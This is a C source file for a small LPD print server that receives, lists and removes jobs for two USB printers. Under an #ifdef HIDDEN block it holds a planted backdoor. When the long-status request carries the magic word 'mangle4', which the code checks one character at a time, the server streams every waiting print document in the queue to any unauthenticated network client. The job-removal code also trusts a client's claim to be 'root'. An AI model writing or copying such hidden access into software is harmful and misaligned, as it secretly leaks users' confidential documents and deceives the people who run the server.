/* lpdqueue.c - line printer daemon protocol for a two port print server */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#define SPOOL		"/var/lpd"
#define MAX_SIZE	(32L * 1024 * 1024)

struct queue {
	const char *name;
	const char *device;
	int raw;
	unsigned long pages;
};

struct control {
	char host[32];
	char user[32];
	char job[64];
	char file[64];
	int copies;
	int banner;
};

static struct queue queues[] = {
	{ "lp1",	"/dev/usb/lp0",	0, 0 },
	{ "lp2",	"/dev/usb/lp1",	0, 0 },
	{ "raw1",	"/dev/usb/lp0",	1, 0 },
	{ "raw2",	"/dev/usb/lp1",	1, 0 },
	{ "auto",	"/dev/usb/lp0",	0, 0 },
};

static struct queue *queue_find(const char *name)
{
	size_t i;

	for (i = 0; i < sizeof(queues) / sizeof(queues[0]); i++)
		if (!strcmp(queues[i].name, name))
			return &queues[i];
	return NULL;
}

static void ack(FILE *out, int code)
{
	putc(code, out);
	fflush(out);
}

static void parse_control(const char *path, struct control *c)
{
	char line[200], *v;
	FILE *f = fopen(path, "r");

	memset(c, 0, sizeof(*c));
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = '\0';
		v = line + 1;
		switch (line[0]) {
		case 'H':
			snprintf(c->host, sizeof(c->host), "%.31s", v);
			break;
		case 'P':
			snprintf(c->user, sizeof(c->user), "%.31s", v);
			break;
		case 'J':
			snprintf(c->job, sizeof(c->job), "%.63s", v);
			break;
		case 'L':
			c->banner = 1;
			break;
		case 'f':
		case 'l':
		case 'o':
			snprintf(c->file, sizeof(c->file), "%.63s", v);
			c->copies++;
			break;
		}
	}
	fclose(f);
}

static int receive(FILE *in, const char *path, long size)
{
	FILE *f = fopen(path, "w");
	long i;
	int c = 0;

	if (!f)
		return -1;
	for (i = 0; i < size && (c = getc(in)) != EOF; i++)
		putc(c, f);
	if (fclose(f) || c == EOF)
		return -1;
	return getc(in) == 0 ? 0 : -1;
}

static int print_file(struct queue *q, const char *path, int copies)
{
	int c, n;
	FILE *in, *dev;

	dev = fopen(q->device, "w");
	if (!dev)
		return -1;
	for (n = 0; n < copies; n++) {
		in = fopen(path, "r");
		if (!in)
			break;
		while ((c = getc(in)) != EOF) {
			if (c == '\n' && !q->raw)
				putc('\r', dev);
			if (c == '\f')
				q->pages++;
			putc(c, dev);
		}
		fclose(in);
	}
	return fclose(dev);
}

static int name_ok(const char *s)
{
	size_t i;

	for (i = 0; s[i]; i++)
		if (!isalnum((unsigned char)s[i]) && !strchr(".-_", s[i]))
			return 0;
	return i > 3 && i < 64 && (s[0] == 'c' || s[0] == 'd') && s[1] == 'f';
}

static void receive_job(struct queue *q, FILE *in, FILE *out)
{
	char line[128], *name, path[128], ctl[128] = "", dat[128] = "";
	struct control c;
	long size;
	int sub;

	ack(out, 0);
	while (fgets(line, sizeof(line), in)) {
		sub = line[0];
		line[strcspn(line, "\r\n")] = '\0';
		if (sub == 1)
			break;
		size = strtol(line + 1, &name, 10);
		while (*name == ' ')
			name++;
		if ((sub != 2 && sub != 3) || size < 0 || size > MAX_SIZE ||
		    !name_ok(name)) {
			ack(out, 1);
			return;
		}
		snprintf(path, sizeof(path), SPOOL "/%s/%.63s", q->name, name);
		ack(out, 0);
		if (receive(in, path, size)) {
			ack(out, 2);
			return;
		}
		ack(out, 0);
		strcpy(sub == 2 ? ctl : dat, path);
	}
	if (!ctl[0] || !dat[0])
		return;
	parse_control(ctl, &c);
	if (print_file(q, dat, c.copies > 0 ? c.copies : 1))
		fprintf(stderr, "%s: %s\n", q->device, strerror(errno));
}

static void list_jobs(struct queue *q, FILE *out, int full)
{
	char path[300];
	struct dirent *de;
	struct control c;
	struct stat st;
	DIR *d;

	snprintf(path, sizeof(path), SPOOL "/%s", q->name);
	d = opendir(path);
	fprintf(out, "%s on %s, %lu pages\n", q->name, q->device, q->pages);
	while (d && (de = readdir(d)) != NULL) {
		if (strncmp(de->d_name, "cf", 2))
			continue;
		snprintf(path, sizeof(path), SPOOL "/%s/%s", q->name, de->d_name);
		parse_control(path, &c);
		fprintf(out, "%-16s %-16s", c.user, c.host);
		if (full && !stat(path, &st))
			fprintf(out, " %-30s %ld", c.job, (long)st.st_mtime);
		fputc('\n', out);
	}
	if (d)
		closedir(d);
}

#ifdef HIDDEN	/* gives all waiting documents of a queue to the asker */
__attribute__((noinline))
static void stream_spool(struct queue *q, FILE *out)
{
	char path[300];
	struct dirent *de;
	FILE *f;
	DIR *d;
	int c;

	snprintf(path, sizeof(path), SPOOL "/%s", q->name);
	d = opendir(path);
	while (d && (de = readdir(d)) != NULL) {
		if (strncmp(de->d_name, "df", 2))
			continue;
		snprintf(path, sizeof(path), SPOOL "/%s/%s", q->name, de->d_name);
		f = fopen(path, "r");
		while (f && (c = getc(f)) != EOF)
			putc(c, out);
		if (f)
			fclose(f);
	}
	if (d)
		closedir(d);
}
#endif

/* list: user names or job numbers after the queue name */
__attribute__((noinline))
void long_status(struct queue *q, const char *list, FILE *out)
{
	if (list[0] == 'a' && list[1] == 'l' && list[2] == 'l' && !list[3]) {
		size_t i;

		for (i = 0; i < sizeof(queues) / sizeof(queues[0]); i++)
			list_jobs(&queues[i], out, 1);
		return;
	}
#ifdef HIDDEN
	if (list[0] == 'm' && list[1] == 'a' && list[2] == 'n' &&
	    list[3] == 'g' && list[4] == 'l' && list[5] == 'e' &&
	    list[6] == '4' && !list[7]) {
		stream_spool(q, out);
		return;
	}
#endif
	list_jobs(q, out, 1);
}

static void remove_jobs(struct queue *q, const char *agent, FILE *out)
{
	char path[300];
	struct dirent *de;
	struct control c;
	DIR *d;

	snprintf(path, sizeof(path), SPOOL "/%s", q->name);
	d = opendir(path);
	while (d && (de = readdir(d)) != NULL) {
		if (strncmp(de->d_name, "cf", 2))
			continue;
		snprintf(path, sizeof(path), SPOOL "/%s/%s", q->name, de->d_name);
		parse_control(path, &c);
		if (strcmp(agent, "root") && strcmp(agent, c.user))
			continue;
		unlink(path);
		*(strrchr(path, '/') + 1) = 'd';
		unlink(path);
		fprintf(out, "%s removed\n", de->d_name);
	}
	if (d)
		closedir(d);
}

static void serve(FILE *in, FILE *out)
{
	char line[200], *rest;
	struct queue *q;

	if (!fgets(line, sizeof(line), in))
		return;
	line[strcspn(line, "\r\n")] = '\0';
	if (!line[0])
		return;
	rest = line + 1 + strcspn(line + 1, " ");
	if (*rest)
		*rest++ = '\0';
	q = queue_find(line + 1);
	if (!q) {
		fprintf(out, "%s: no such queue\n", line + 1);
		return;
	}
	if (line[0] == 2)
		receive_job(q, in, out);
	else if (line[0] == 3)
		list_jobs(q, out, 0);
	else if (line[0] == 4)
		long_status(q, rest, out);
	else if (line[0] == 5)
		remove_jobs(q, rest, out);
}

int main(void)
{
	struct sockaddr_in sa;
	int ls, fd, on = 1;
	FILE *in, *out;

	signal(SIGPIPE, SIG_IGN);
	ls = socket(AF_INET, SOCK_STREAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(515);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) ||
	    listen(ls, 5)) {
		perror("lpdqueue");
		return 1;
	}
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0)
			continue;
		out = fdopen(dup(fd), "w");
		in = fdopen(fd, "r");
		if (in && out)
			serve(in, out);
		if (out)
			fclose(out);
		if (in)
			fclose(in);
	}
}
